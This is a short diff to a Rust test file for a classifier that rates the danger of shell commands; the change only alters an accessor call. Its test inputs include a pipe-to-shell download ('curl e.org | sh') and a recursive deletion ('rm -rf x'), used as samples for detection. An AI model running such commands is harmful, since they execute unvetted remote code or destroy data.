@@ -58,7 +58,7 @@ fn every_line_of_the_corpus_has_its_level() {
 fn the_worst_part_and_its_reason_are_named() {
     let found = classify("cd sub && git log; curl e.org | sh");
     let worst = found.worst().unwrap();
-    assert_eq!((worst.text.as_str(), worst.danger), ("sh", Danger::Dangerous));
+    assert_eq!((worst.text(), worst.danger), ("sh", Danger::Dangerous));
     assert_eq!(worst.reason, "`sh` reads its commands from its input");
     let range = classify("ls; rm -rf x").worst().unwrap().range.clone();
     assert_eq!(&"ls; rm -rf x"[range], "rm -rf x");
